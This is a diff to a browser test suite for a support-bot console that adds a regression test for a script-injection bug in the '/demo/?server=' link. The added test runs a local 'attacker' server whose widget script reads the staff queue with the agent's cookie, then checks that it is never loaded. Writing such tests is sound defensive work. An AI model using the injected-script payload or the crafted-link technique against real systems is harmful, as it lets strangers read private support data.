@@ -7,10 +7,12 @@ go to the test's folder, or to ``docs/screenshots/`` with ``SUPPORTBOT_UPDATE_SC
 
 from __future__ import annotations
 
+import http.server
 import os
 import random
 import re
 import shutil
+import threading
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -234,6 +236,54 @@ def test_a_widget_ticket_is_claimed_and_answered_live(
         assert ticket.status == "waiting" and ticket.first_response_at is not None
     for page in (sanne, kees):
         assert ERRORS[id(page)] == []
+
+
+class Attacker:
+    """A stranger's web server on loopback, serving a ``widget.js`` that would read the queue
+    with the agent's cookie. It records every request it gets."""
+
+    SCRIPT = b"fetch('/staff/').then(r => r.text()).then(t => { window.__stolen = t; });"
+
+    def __init__(self) -> None:
+        self.requests: list[str] = []
+        attacker = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
+                attacker.requests.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "application/javascript")
+                self.end_headers()
+                self.wfile.write(Attacker.SCRIPT)
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+
+    def stop(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+def test_a_crafted_demo_link_runs_no_foreign_script_in_an_agents_session(
+    browser: Browser, server: LiveServer, rt: Runtime, contexts: list[BrowserContext]
+) -> None:
+    """Issue 19 #1: ``/demo/?server=`` once loaded any script on the console's origin."""
+    attacker = Attacker()
+    try:
+        kees = new_page(browser, contexts)
+        log_in(kees, server, "kees@nme.example")
+        kees.goto(f"{server.url}/demo/?server={attacker.url}&lang=en")
+        expect(kees.locator("supportbot-widget .launcher")).to_be_visible()  # our own widget
+        kees.wait_for_load_state("networkidle")
+        assert attacker.requests == []
+        assert kees.evaluate("typeof window.__stolen") == "undefined"
+        assert ERRORS[id(kees)] == []  # and nothing was blocked: the page asked for no stranger
+    finally:
+        attacker.stop()
 
 
 def test_an_email_ticket_is_answered_by_mail(
